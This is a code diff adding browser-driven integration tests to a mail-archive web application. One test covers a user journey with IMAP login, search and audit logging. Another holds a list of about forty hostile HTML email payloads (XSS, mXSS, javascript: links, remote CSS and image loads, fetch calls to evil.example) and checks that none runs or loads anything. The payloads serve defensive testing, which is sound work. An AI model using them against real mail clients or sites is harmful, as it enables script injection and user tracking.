@@ -662,3 +662,248 @@ fn web_login_through_a_real_dovecot_imap_server() {
     assert_eq!(r.status, 503, "{}", r.text());
     serve.stop();
 }
+
+/// Runs `tests/web/browser.py MODE` against `site` with `cfg`; its JSON.
+fn browser(mode: &str, site: &Site, dir: &Path, cfg: &Value) -> Value {
+    let cfg_path = dir.join(format!("browser-{mode}.json"));
+    std::fs::write(&cfg_path, cfg.to_string()).unwrap();
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/web/browser.py");
+    let out = std::process::Command::new("python3")
+        .arg(&script)
+        .arg(mode)
+        .arg(&site.base)
+        .arg(&cfg_path)
+        .output()
+        .expect("python3 with playwright (scripts/test installs it)");
+    assert!(
+        out.status.success(),
+        "browser.py {mode} failed:\n{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    serde_json::from_slice(&out.stdout).expect("browser.py prints JSON")
+}
+
+#[test]
+fn web_in_a_real_browser_bob_alice_and_the_auditor() {
+    let dir = sandbox();
+    crate::util::set_mode(dir.path(), 0o755);
+    let imap_port = crate::util::free_port();
+    let bob_password = "bob's imap password";
+    let _dovecot = crate::postfix::Dovecot::start_imap(
+        Path::new("/usr/sbin/dovecot"),
+        &dir.path().join("dovecot"),
+        imap_port,
+        &[("bob", bob_password)],
+    );
+    let extra = format!(
+        "auth = [\"local\", \"imap://127.0.0.1:{imap_port}\"]\ndefault_domain = \"example.com\"\n"
+    );
+    let (mut serve, site) = start(dir.path(), &extra);
+    // bob has no local account here: the IMAP server logs him in.
+    let out = std::process::Command::new(bin())
+        .arg("--config")
+        .arg(dir.path().join("mailkeep.toml"))
+        .args(["user", "remove", "bob"])
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let cfg = serde_json::json!({
+        "bob": {"user": "bob", "password": bob_password},
+        "alice": {"user": "alice", "password": PASSWORD},
+        "auditor": {"user": "audit", "password": PASSWORD},
+        "bob_message": 1,
+        "alice_message": 2,
+    });
+    let r = browser("journey", &site, dir.path(), &cfg);
+    let rows = |k: &str| -> Vec<String> { serde_json::from_value(r[k].clone()).unwrap() };
+    let bob_search = rows("bob_search");
+    assert_eq!(bob_search.len(), 1, "{bob_search:?}");
+    assert!(
+        bob_search[0].contains("quarterly numbers") && bob_search[0].contains("ceo@example.com")
+    );
+    let envelope = r["bob_envelope"].as_str().unwrap();
+    for want in [
+        "bob@example.com",
+        "dave@example.com (Bcc)",
+        "erin@example.com (Bcc)",
+        "carol@example.com",
+        "4ABC1",
+    ] {
+        assert!(envelope.contains(want), "{want} not in {envelope}");
+    }
+    assert_eq!(r["bob_bcc_marks"], 2);
+    assert!(r["bob_html"]
+        .as_str()
+        .unwrap()
+        .contains("The numbers are attached."));
+    assert_eq!(r["download_name"], "numbersfdp.exe");
+    assert_eq!(r["download_bytes"], "255044462d312e340a25e2e3cfd30a");
+    let tabs: Vec<String> = serde_json::from_value(r["tab_order"].clone()).unwrap();
+    assert!(
+        tabs.iter().any(|t| t == "q") && tabs.iter().any(|t| t == "from"),
+        "{tabs:?}"
+    );
+    assert!(
+        r["narrow_overflow"].as_i64().unwrap() <= 0,
+        "wider than 360 px: {}",
+        r["narrow_overflow"]
+    );
+    assert!(r["narrow_message_overflow"].as_i64().unwrap() <= 0);
+    let alice = rows("alice_rows");
+    assert_eq!(alice.len(), 1, "{alice:?}");
+    assert!(alice[0].contains("lunch") && !alice.iter().any(|x| x.contains("quarterly")));
+    assert_eq!(r["alice_bob_message_status"], 404);
+    assert_eq!(rows("auditor_rows").len(), 4);
+    let audit_rows = rows("audit_rows");
+    let views: Vec<&String> = audit_rows
+        .iter()
+        .filter(|row| row.contains("\taudit\t") && row.contains("\tshow\t"))
+        .collect();
+    assert!(
+        views.iter().any(|v| v.contains("\"id\":\"1\""))
+            && views.iter().any(|v| v.contains("\"id\":\"2\"")),
+        "{audit_rows:#?}"
+    );
+    assert_eq!(r["foreign_requests"], serde_json::json!([]));
+    assert_eq!(r["dialogs"], serde_json::json!([]));
+    serve.stop();
+}
+
+/// Hostile HTML: each tries to run a script (which would set `__pwned` and
+/// fetch from evil.example) or to load something from elsewhere.
+const HOSTILE: &[(&str, &str)] = &[
+    ("script", "<script>window.__pwned=1;fetch('http://evil.example/script')</script>"),
+    ("img onerror", "<img src=x onerror=\"window.__pwned=1;fetch('http://evil.example/onerror')\">"),
+    ("body onload", "<body onload=\"window.__pwned=1;fetch('http://evil.example/onload')\">x</body>"),
+    ("javascript link", "<a href=\"javascript:window.__pwned=1\">click</a>"),
+    ("data link", "<a href=\"data:text/html,<script>fetch('http://evil.example/data')</script>\">x</a>"),
+    ("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/meta\">"),
+    ("base", "<base href=\"http://evil.example/\"><img src=\"rel.png\"><a href=\"rel\">r</a>"),
+    ("form", "<form action=\"http://evil.example/form\" method=post><input name=a value=b><button>go</button></form>"),
+    ("style import", "<style>@import url(http://evil.example/import.css);</style>hi"),
+    ("style attribute url", "<div style=\"background:url(http://evil.example/bg.png)\">x</div>"),
+    ("style element url", "<style>body{background:url('http://evil.example/style-bg')}</style>x"),
+    ("font-face", "<style>@font-face{font-family:x;src:url(http://evil.example/font.woff)}p{font-family:x}</style><p>x</p>"),
+    ("svg script", "<svg><script>window.__pwned=1;fetch('http://evil.example/svg-script')</script></svg>"),
+    ("svg onload", "<svg onload=\"window.__pwned=1;fetch('http://evil.example/svg-onload')\"></svg>"),
+    ("svg image", "<svg><image href=\"http://evil.example/svg-image.png\"/></svg>"),
+    ("iframe", "<iframe src=\"http://evil.example/frame\"></iframe>"),
+    ("iframe srcdoc", "<iframe srcdoc=\"<script>parent.__pwned=1;fetch('http://evil.example/srcdoc')</script>\"></iframe>"),
+    ("object", "<object data=\"http://evil.example/object\"></object>"),
+    ("embed", "<embed src=\"http://evil.example/embed\">"),
+    ("link stylesheet", "<link rel=stylesheet href=\"http://evil.example/link.css\">x"),
+    ("video", "<video src=\"http://evil.example/v.mp4\" autoplay></video><audio src=\"http://evil.example/a.mp3\" autoplay></audio>"),
+    ("remote image", "<img src=\"http://evil.example/track.gif\" width=1 height=1>"),
+    ("srcset", "<img srcset=\"http://evil.example/srcset.png 1x\">"),
+    ("picture", "<picture><source srcset=\"http://evil.example/picture.png\"><img alt=p></picture>"),
+    ("mxss svg style", "<p><svg><p><style><img src=x onerror=\"window.__pwned=1;fetch('http://evil.example/mxss1')\"></style></p></svg></p>"),
+    ("noscript title", "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1;fetch('http://evil.example/noscript')>\"></noscript>"),
+    ("math mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=\"fetch('http://evil.example/mglyph')\">"),
+    ("table background", "<table background=\"http://evil.example/table-bg.png\"><tr><td>x</td></tr></table>"),
+    ("input image", "<input type=image src=\"http://evil.example/input.png\">"),
+    ("body background", "<body background=\"http://evil.example/body-bg.png\">x</body>"),
+    ("ping", "<a ping=\"http://evil.example/ping\" href=\"https://ok.example/\">ok</a>"),
+    ("onmouseover", "<div onmouseover=\"window.__pwned=1;fetch('http://evil.example/hover')\">hover me</div>"),
+    ("split script", "<scr<script>ipt>window.__pwned=1</scr</script>ipt>"),
+    ("mixed case javascript", "<IMG SRC=JaVaScRiPt:window.__pwned=1><a href=\"JaVaScRiPt:window.__pwned=1\">j</a>"),
+    ("entity javascript", "<a href=\"&#106;avascript:window.__pwned=1\">e</a>"),
+    ("xmp", "<xmp><script>window.__pwned=1</script></xmp>"),
+    ("template", "<template><script>window.__pwned=1</script></template>"),
+    ("details ontoggle", "<details open ontoggle=\"window.__pwned=1;fetch('http://evil.example/toggle')\">d</details>"),
+    ("formaction", "<button formaction=\"http://evil.example/formaction\">b</button>"),
+    ("css expression", "<div style=\"width:expression(window.__pwned=1)\">x</div>"),
+];
+
+fn hostile_message(name: &str, html: &str) -> String {
+    format!(
+        "From: \"<img src=x onerror=window.__pwned=1>\" <mallory@ext.example>\r\nTo: carol@example.com\r\n\
+         Subject: {name} <script>window.__pwned=1</script>\r\nMIME-Version: 1.0\r\n\
+         Content-Type: multipart/mixed; boundary=\"h\"\r\n\r\n--h\r\n\
+         Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--h\r\n\
+         Content-Type: text/plain; name=\"<svg onload=alert(1)>.html\"\r\n\
+         Content-Disposition: attachment; filename=\"\\\"><script>alert(1)</script>.html\"\r\n\r\n\
+         <script>alert(1)</script>\r\n--h--\r\n"
+    )
+}
+
+#[test]
+fn web_hostile_html_runs_nothing_and_loads_nothing_in_a_real_browser() {
+    let dir = sandbox();
+    let port = crate::util::free_port();
+    let cfg = fixture(dir.path(), port, "");
+    let mut vectors = Vec::new();
+    for (i, (name, html)) in HOSTILE.iter().enumerate() {
+        let out = pipe(
+            &cfg,
+            &[
+                "--sender=mallory@ext.example",
+                "--recipient=carol@example.com",
+            ],
+            hostile_message(name, html).as_bytes(),
+        );
+        assert!(out.status.success());
+        vectors.push(serde_json::json!({"name": name, "id": 5 + i}));
+    }
+    // A Content-Type lie: HTML declared as text/plain is shown as text.
+    let lie = "From: mallory@ext.example\r\nTo: carol@example.com\r\nSubject: lie\r\n\
+               Content-Type: text/plain\r\n\r\n<script>window.__pwned=1;fetch('http://evil.example/lie')</script>\r\n";
+    assert!(pipe(
+        &cfg,
+        &[
+            "--sender=mallory@ext.example",
+            "--recipient=carol@example.com"
+        ],
+        lie.as_bytes()
+    )
+    .status
+    .success());
+    vectors.push(serde_json::json!({"name": "content-type lie", "id": 5 + HOSTILE.len()}));
+    assert!(vectors.len() >= 30);
+    let extra = String::new();
+    let mut serve = Serve::start_on(
+        dir.path(),
+        port,
+        |p| config(dir.path(), p, &extra),
+        &["web interface listening"],
+        false,
+    );
+    let site = Site::new(port);
+    let r = browser(
+        "hostile",
+        &site,
+        dir.path(),
+        &serde_json::json!({"user": {"user": "carol", "password": PASSWORD}, "vectors": vectors}),
+    );
+    let results = r["vectors"].as_array().unwrap();
+    assert_eq!(results.len(), vectors.len());
+    for v in results {
+        for part in ["page", "body.html"] {
+            let p = &v[part];
+            assert!(p.get("error").is_none(), "{}: {v}", v["name"]);
+            assert_eq!(
+                p["pwned"],
+                serde_json::json!([]),
+                "{}: a script ran: {v}",
+                v["name"]
+            );
+        }
+        assert_eq!(v["page"]["status"], 200, "{v}");
+        assert!(
+            v["page"]["frames"].as_u64().unwrap() <= 2,
+            "{}: a frame of its own: {v}",
+            v["name"]
+        );
+    }
+    assert_eq!(
+        r["foreign_requests"],
+        serde_json::json!([]),
+        "requests left for other hosts"
+    );
+    assert_eq!(r["dialogs"], serde_json::json!([]));
+    // The page shows the hostile subject as text.
+    let carol = site.login("carol");
+    let page = site.get(Some(&carol), "/messages/5").text();
+    assert!(page.contains("&lt;script&gt;window.__pwned=1&lt;/script&gt;"));
+    assert!(!page.contains("<script"));
+    serve.stop();
+}
